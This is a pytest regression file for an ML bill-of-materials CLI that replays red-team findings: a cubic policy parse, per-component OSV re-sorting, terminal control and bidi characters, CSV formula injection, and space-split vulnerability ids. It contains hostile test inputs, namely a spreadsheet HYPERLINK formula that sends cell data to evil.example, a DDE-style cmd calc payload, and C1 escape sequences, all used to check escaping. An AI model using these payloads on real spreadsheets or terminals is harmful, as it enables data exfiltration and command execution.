"""Red team 7c's findings F3, F5, F8, F9 and F10, replayed through the CLI (and, for F5, with a
work count): a policy line that made the header scan cubic, an OSV range re-sorted for every
component, BOM text that drove the terminal (C1 controls, bidi overrides), CSV cells that a
spreadsheet evaluates, and a vulnerability id split at its spaces by the index."""

from __future__ import annotations

import csv
import io
import json
import random
import unicodedata
import uuid
from pathlib import Path

import pytest
from packaging.version import Version

from tests.helpers import cli_within_contract

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"


def _cli(args: list[str], capsys: pytest.CaptureFixture[str], *, want: set[int]) -> tuple[str, str]:
    return cli_within_contract(args, capsys, want=want, limit_s=10.0)


def _bom(tmp_path: Path, comps: list[dict[str, object]], vulns: list[dict[str, object]] | None = None,
         name: str = "bom.json") -> Path:
    doc: dict[str, object] = {"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1,
                              "serialNumber": f"urn:uuid:{uuid.uuid5(uuid.NAMESPACE_URL, name)}",
                              "metadata": {"timestamp": "2024-01-01T00:00:00Z"}, "components": comps}
    if vulns is not None:
        doc["vulnerabilities"] = vulns
    path = tmp_path / name
    path.write_text(json.dumps(doc))
    return path


def _lib(name: str, version: str = "1.0", **more: object) -> dict[str, object]:
    purl = f"pkg:pypi/{name}@{version}" if name.isascii() and name.replace("-", "").isalnum() else None
    return {"type": "library", "bom-ref": f"ref-{abs(hash(name))}-{version}", "name": name, "version": version,
            **({"purl": purl} if purl else {}), **more}


# --- F3: the policy header scan is linear ---------------------------------------------------

def test_f3_policy_line_that_was_cubic_is_an_error_at_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``x = [`` / ``[`` + 1,600 spaces + ``1`` + 1,600 spaces + ``],``: 37 s before the fix."""
    policy = HOSTILE / "policy" / "rt7c-f3-header-cubic.toml"
    _, err = cli_within_contract(["check", str(_bom(tmp_path, [_lib("numpy")])), "--policy", str(policy)], capsys,
                                 want={2}, limit_s=5.0)
    assert "rt7c-f3-header-cubic.toml:1: unknown key x" in err


def test_f3_headers_are_still_located(tmp_path: Path) -> None:
    from mlbom.policy.config import loads

    text = ('[licenses]\nallow = ["MIT"]\n  [ models ]  # weights\nformats = ["safetensors"]\n'
            '[[exceptions]]\nid = "models.format"\nreason = "r"\n[[ exceptions ]]\nid = "x"\nreason = "s"\n')
    pol = loads(text.encode(), "p.toml")
    assert [e.line for e in pol.exceptions] == [5, 8]
    from mlbom.errors import MlbomError

    with pytest.raises(MlbomError, match=r"^p.toml:4: models.bogus: unknown key"):
        loads(b'[licenses]\nallow = ["MIT"]\n  [ models ]  # weights\nbogus = 1\n', "p.toml")


# --- F5: a record's ranges are prepared once, not once per component -------------------------

def _walk(v: Version, events: list[dict[str, str]]) -> bool:
    """The OSV evaluation written out as the specification states it (sort, then walk)."""
    limits = [e["limit"] for e in events if "limit" in e]
    if limits and not any(lim == "*" or v < Version(lim) for lim in limits):
        return False
    evs = [(k, val) for e in events for k, val in e.items() if k != "limit"]
    evs.sort(key=lambda kv: (kv[0] != "introduced" or kv[1] != "0", Version(kv[1])))
    vulnerable = False
    for kind, val in evs:
        ev = Version(val)
        if kind == "introduced" and (val == "0" or v >= ev):
            vulnerable = True
        elif (kind == "fixed" and v >= ev) or (kind == "last_affected" and v > ev):
            vulnerable = False
    return vulnerable


def _events(rng: random.Random, n: int) -> list[dict[str, str]]:
    pool = ["0", "1.0", "1.0.0", "1.0rc1", "1.0.post1", "1.1", "1.2", "1.2.1", "2.0", "2.0.dev0", "3", "3.0.0"]
    closing = rng.choice(["fixed", "last_affected"])  # OSV: a range has one or the other
    kinds = ["introduced", closing, "introduced", closing, "limit"]
    out = []
    for _ in range(n):
        kind = rng.choice(kinds)
        out.append({kind: rng.choice(pool[1:] + (["*"] if kind == "limit" else ["0"] if kind == "introduced" else []))})
    return out


def test_f5_prepared_ranges_evaluate_as_the_specification(tmp_path: Path) -> None:
    """The binary search over prepared events gives the specification's sort-and-walk answer on
    random ranges with equal versions, ``last_affected`` at the version, limits and ``*``."""
    from mlbom.vulns.db import open_database
    from mlbom.vulns.match import Target, match_target
    from tests.vulns.conftest import record, write_db

    rng = random.Random(7)
    versions = ["0.9", "1.0", "1.0.0", "1.0rc1", "1.0.post1", "1.05", "1.1", "1.2", "1.2.1", "1.3", "2.0", "2.0.dev0",
                "2.5", "3", "3.0.1", "4"]
    for case in range(40):
        events = _events(rng, rng.randint(1, 8))
        if not any("introduced" in e for e in events):
            events.append({"introduced": "0"})
        folder = write_db(tmp_path / f"db{case}", [record("PYSEC-2099-1", "pkg", events=events)])
        db = open_database(folder, use_cache=False)
        assert db.records_for("pkg"), events
        for v in versions:
            matches, _ = match_target(db, Target("ref", "pkg", v))
            assert bool(matches) == _walk(Version(v), events), (events, v)


def test_f5_one_large_record_against_many_components_is_prepared_once(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Red team 7c F5 in small: one range of 4,000 events and 100 torch components (the red
    team's 34,000 x 200 took 78 s). The work is counted, not timed: version comparisons stay
    within a small multiple of one sort of the events, where re-sorting per component made
    them grow with the number of components."""
    events: list[dict[str, str]] = [{"introduced": "0"}]
    for i in range(1, 2000):
        events += [{"fixed": f"1.{i}.0"}, {"introduced": f"1.{i}.1"}]
    db = tmp_path / "osv"
    db.mkdir()
    (db / "PYSEC-2099-2.json").write_text(json.dumps({
        "schema_version": "1.6.0", "id": "PYSEC-2099-2", "modified": "2024-01-01T00:00:00Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "torch"}, "ranges": [{"type": "ECOSYSTEM", "events": events}]}]}))
    comps = [_lib("torch", f"1.{i}.{i % 3}") | {"bom-ref": f"torch-{i}"} for i in range(1, 101)]
    bom = _bom(tmp_path, comps)

    counted = {"n": 0}
    for op in ("__lt__", "__le__", "__eq__", "__ge__", "__gt__"):
        real = getattr(Version, op)

        def counting(a: Version, b: object, _real: object = real) -> object:
            counted["n"] += 1
            return _real(a, b)  # type: ignore[operator]

        monkeypatch.setattr(Version, op, counting)
    out_path = tmp_path / "audited.json"
    _cli(["-q", "audit", str(bom), "--vuln-db", str(db), "--no-cache", "-o", str(out_path)], capsys, want={0})
    n = len(events)
    one_sort = n * n.bit_length()
    assert counted["n"] < 4 * one_sort, counted["n"]  # before the fix: ~100 sorts
    doc = json.loads(out_path.read_text())
    (vuln,) = doc["vulnerabilities"]
    affected = {a["ref"] for a in vuln["affects"]}
    # 1.i.0 is fixed, 1.i.1 and 1.i.2 are affected (introduced at 1.i.1, fixed at 1.(i+1).0)
    assert affected == {f"torch-{i}" for i in range(1, 101) if i % 3}


# --- F8: report text/markdown and query/index tables escape what is not printable ------------

HOSTILE_TEXT = ["np\u009b2Jnumpy", "evil\u009b31mred", "gpl\u202eTIM", "iso\u2066x\u2069", "lre\u202alro\u202d",
                "pdf\u202cz", "del\x7fbel\x07", "nel\x85", "ls\u2028ps\u2029", "tag\U000e0041"]


def _unsafe(text: str) -> list[str]:
    """Characters a terminal or renderer would act on: controls (a line end aside) and format
    characters (bidi overrides and isolates, tags)."""
    return sorted({ch for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")})


def test_f8_reports_and_tables_escape_c1_controls_and_bidi(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    comps = [_lib(t, "1.0", licenses=[{"license": {"name": t}}], description=t) | {"bom-ref": f"c{i}"}
             for i, t in enumerate(HOSTILE_TEXT)]
    bom = _bom(tmp_path, comps)
    for fmt in ("text", "markdown"):
        out, _ = _cli(["report", str(bom), "--format", fmt], capsys, want={0})
        assert _unsafe(out) == [], fmt
        assert "\\x9b2J" in out and "\\u202e" in out, fmt
    out, _ = _cli(["query", str(bom)], capsys, want={0})
    assert _unsafe(out) == [] and "\\x9b" in out and "\\u2066" in out
    db = f"sqlite:///{tmp_path / 'ix.db'}"
    _cli(["index", "add", str(bom), "--db", db], capsys, want={0})
    out, _ = _cli(["query", "--db", db, "--name", "*"], capsys, want={0})
    assert _unsafe(out) == [] and "\\x9b" in out


def test_f8_printable_is_the_one_escaping() -> None:
    from mlbom.report import markdown, text
    from mlbom.table import printable

    assert printable("plain ünïcode 名前 ✓") == "plain ünïcode 名前 ✓"
    assert printable("a\u009b2J\u202eb\x1b\U000e0041") == "a\\x9b2J\\u202eb\\x1b\\U000e0041"
    assert text.esc("x\u202ey") == "x\\u202ey"
    assert markdown.esc("x\u202ey\nz") == "x\\\\u202ey z"


# --- F9: CSV cells a spreadsheet would evaluate get a leading quote ---------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"numpy")', '@SUM(1+1)*cmd|" /C calc"!A0', "+1+1", "-2+3",
            "\tx", "\r=1"]


def test_f9_query_csv_is_spreadsheet_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    comps = [_lib(f, "1.0", licenses=[{"license": {"name": f}}]) | {"bom-ref": f"c{i}"} for i, f in enumerate(FORMULAS)]
    comps.append(_lib("numpy", "1.26.0", licenses=[{"license": {"id": "MIT"}}]))
    bom = _bom(tmp_path, comps)
    out, _ = _cli(["query", str(bom), "--format", "csv"], capsys, want={0})
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert sorted(r["name"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["numpy"])
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    assert {r["licenses"] for r in rows if r["name"] == "numpy"} == {"MIT"}
    db = f"sqlite:///{tmp_path / 'ix.db'}"
    _cli(["index", "add", str(bom), "--db", db], capsys, want={0})
    out, _ = _cli(["query", "--db", db, "--name", "*", "--format", "csv"], capsys, want={0})
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(comps)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


# --- F10: a vulnerability id is whole in the index, as in the BOM -----------------------------

def _vuln_bom(tmp_path: Path) -> Path:
    comps = [_lib("numpy", "1.26.0") | {"bom-ref": "np"}, _lib("torch", "2.1.0") | {"bom-ref": "pt"}]
    vulns = [{"id": "PYSEC-2000-1 CVE-2024-3094", "affects": [{"ref": "np"}]},
             {"id": "GHSA-aaaa-bbbb-cccc", "references": [{"id": "CVE-2024-1", "source": {"name": "NVD"}}],
              "affects": [{"ref": "pt"}]}]
    return _bom(tmp_path, comps, vulns, "vuln-space.json")


@pytest.mark.parametrize(("want", "expected"), [("CVE-2024-3094", []), ("PYSEC-2000-1", []),
                                                ("cve-2024-1", ["torch"]), ("GHSA-aaaa-bbbb-cccc", ["torch"])])
def test_f10_index_and_bom_give_the_same_answer(want: str, expected: list[str], tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    bom = _vuln_bom(tmp_path)
    db = f"sqlite:///{tmp_path / 'ix.db'}"
    _cli(["index", "add", str(bom), "--db", db], capsys, want={0})
    out, _ = _cli(["query", "--db", db, "--vuln", want, "--format", "json"], capsys, want={0})
    from_index = sorted(r["component"] for r in json.loads(out))
    out, _ = _cli(["query", str(bom), "--vuln", want, "--format", "json"], capsys, want={0})
    direct = sorted(r["component"] for r in json.loads(out))
    assert from_index == direct == expected


def test_f10_an_index_with_space_joined_ids_is_rebuilt(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An index written by an older mlbom (ids joined by spaces, meta "1") is re-made from its
    stored BOMs when opened, so it answers as a new one does."""
    import sqlalchemy as sa

    bom = _vuln_bom(tmp_path)
    db = f"sqlite:///{tmp_path / 'ix.db'}"
    _cli(["index", "add", str(bom), "--db", db], capsys, want={0})
    engine = sa.create_engine(db)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE mlbom_vulnerabilities SET ids = ' PYSEC-2000-1 CVE-2024-3094 ' WHERE ordinal = 0"))
        conn.execute(sa.text("UPDATE mlbom_meta SET value = '1' WHERE key = 'vulnerabilities_indexed'"))
        conn.execute(sa.text("UPDATE mlbom_vulnerabilities SET ids = ' CVE-2024-1 GHSA-AAAA-BBBB-CCCC ' WHERE ordinal = 1"))
    engine.dispose()
    # read only: the old rows are still found (as the older mlbom found them), none is lost
    out, _ = _cli(["query", "--db", db, "--vuln", "CVE-2024-1", "--format", "json"], capsys, want={0})
    assert [r["component"] for r in json.loads(out)] == ["torch"]
    # the next write rebuilds the table from the stored BOMs: ids whole again
    _cli(["index", "add", str(_bom(tmp_path, [_lib("six", "1.16.0")], [], "other.json")), "--db", db], capsys, want={0})
    out, _ = _cli(["query", "--db", db, "--vuln", "CVE-2024-3094", "--format", "json"], capsys, want={0})
    assert json.loads(out) == []
    out, _ = _cli(["query", "--db", db, "--vuln", "CVE-2024-1", "--format", "json"], capsys, want={0})
    assert [r["component"] for r in json.loads(out)] == ["torch"]
    engine = sa.create_engine(db)
    with engine.connect() as conn:
        assert {r[0] for r in conn.execute(sa.text("SELECT ids FROM mlbom_vulnerabilities"))} == {
            '["PYSEC-2000-1 CVE-2024-3094"]', '["CVE-2024-1", "GHSA-AAAA-BBBB-CCCC"]'}
    engine.dispose()


# --- a licence text is whole in the index, as in the BOM (line breaks and backslashes) --------

@pytest.mark.parametrize(("want", "expected"), [("GPL-3.0", ["b"]), ("MIT", []), ("Apache-2.0", ["c"]),
                                                ("x\\y", ["d"]), ("MIT*", ["a"])])
def test_licence_with_a_line_break_is_one_licence_in_the_index(want: str, expected: list[str], tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    comps = [_lib("a", licenses=[{"license": {"name": "MIT\nGPL-3.0"}}]),
             _lib("b", licenses=[{"license": {"id": "GPL-3.0"}}]),
             _lib("c", licenses=[{"license": {"id": "Apache-2.0"}}, {"license": {"name": "Other\\n"}}]),
             _lib("d", licenses=[{"license": {"name": "x\\y"}}])]
    bom = _bom(tmp_path, comps, name="lic-newline.json")
    db = f"sqlite:///{tmp_path / 'ix.db'}"
    _cli(["index", "add", str(bom), "--db", db], capsys, want={0})
    out, _ = _cli(["query", "--db", db, "--license", want, "--format", "json"], capsys, want={0})
    from_index = sorted(r["name"] for r in json.loads(out))
    out, _ = _cli(["query", str(bom), "--license", want, "--format", "json"], capsys, want={0})
    direct = sorted(r["name"] for r in json.loads(out))
    assert from_index == direct == expected


def test_licence_texts_round_trip_through_the_index_column() -> None:
    from mlbom.index import join_licences, split_licences

    for texts in (["MIT"], ["MIT\nGPL-3.0"], ["a\\", "\\n", "b\\\\n\n"], ["x", "y"], []):
        assert split_licences(join_licences(texts)) == texts
    assert split_licences("MIT\nApache-2.0") == ["MIT", "Apache-2.0"]  # rows written before the escaping
